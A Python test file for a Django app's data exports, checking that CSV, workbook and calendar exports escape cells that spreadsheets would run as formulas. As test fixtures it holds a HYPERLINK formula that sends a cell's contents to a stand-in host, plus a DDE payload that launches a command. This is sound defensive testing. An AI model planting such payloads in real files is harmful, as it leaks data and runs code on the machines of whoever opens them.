"""Every export neutralises cells that spreadsheet software would run as formulas (issue #12).

The list below is every export the app has; the source scan fails when product code writes a CSV or
a workbook without the shared helper in core/exports.py, so a new export cannot skip it unnoticed.
"""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from core.exports import FORMULA_PREFIXES, csv_bytes, neutralise, xlsx_bytes
from tests.contacts.factories import PersonFactory
from tests.outreach.factories import InteractionFactory, SyntheticPersonFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
PAYLOAD = '=HYPERLINK("http://x.example/?d="&B2,"open")'
EXPORTS = ["people-csv", "people-xlsx", "interactions-csv", "calendar-ics"]


@pytest.fixture
def hostile_rows(officer):
    person = PersonFactory(title=PAYLOAD, is_synthetic=True)
    meeting = InteractionFactory(
        people=[person, SyntheticPersonFactory()],
        kind="meeting",
        summary=PAYLOAD,
        location="@SUM(1+1)*cmd|' /C calc'!A0",
        occurred_at=timezone.now() + dt.timedelta(days=1),
        created_by=officer,
    )
    meeting.staff.add(officer)
    return person, meeting


def _cells(kind: str, response) -> list[str]:
    if kind.endswith("xlsx"):
        sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
        return [str(cell) for row in sheet.iter_rows(values_only=True) for cell in row if cell is not None]
    if kind.endswith("ics"):
        # The free-text properties (PRODID's "-//..." is the fixed identifier RFC 5545 prescribes).
        lines = response.content.decode().splitlines()
        return [line.split(":", 1)[1] for line in lines if line.startswith(("SUMMARY:", "LOCATION:"))]
    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]


def _download(kind: str, client, officer):
    if kind == "people-csv":
        return client.get("/stakeholders/export/")
    if kind == "people-xlsx":
        return client.get("/stakeholders/export/?format=xlsx")
    if kind == "interactions-csv":
        return client.get("/interactions/export.csv")
    client.post("/calendar/token/", {"action": "issue"})
    feed_url = client.get("/calendar/").context["feed_url"]
    return client.get(feed_url.split("testserver", 1)[1])


@pytest.mark.parametrize("kind", EXPORTS)
def test_export_neutralises_formula_cells(kind, client_for, officer, hostile_rows):
    response = _download(kind, client_for(officer), officer)
    assert response.status_code == 200
    cells = _cells(kind, response)
    assert cells, "the export wrote nothing"
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert dangerous == []
    if kind == "calendar-ics":
        assert "LOCATION:'@SUM(1+1)*cmd|' /C calc'!A0" in response.content.decode()
    else:
        assert "'" + PAYLOAD in cells


def test_helpers_neutralise_every_prefix_and_keep_other_values():
    assert [neutralise(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "ok", 5, None)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "ok", 5, None,
    ]  # fmt: skip
    rows = list(csv.reader(io.StringIO(csv_bytes(["h"], [["-2+3"], [-2]]).decode("utf-8-sig"))))
    assert rows == [["h"], ["'-2+3"], ["-2"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["h"], [["+cmd"]], title="t")), read_only=True).active
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == ["h", "'+cmd"]


WRITER = re.compile(r"csv\.writer\(|csv\.DictWriter\(|openpyxl import Workbook|text/calendar")


def test_every_export_writer_goes_through_the_shared_helper():
    """Product modules that build a CSV, a workbook or a calendar: only the helper and the calendar
    feed (whose text passes through `neutralise`). Anything new here needs a row in EXPORTS."""
    found = set()
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {"tests", "bench", ".venv", "var"} or "migrations" in relative.parts:
            continue
        if WRITER.search(path.read_text()):
            found.add(str(relative))
    assert found == {"core/exports.py", "outreach/views.py"}
    assert "neutralise(" in (ROOT / "outreach" / "calendar.py").read_text()
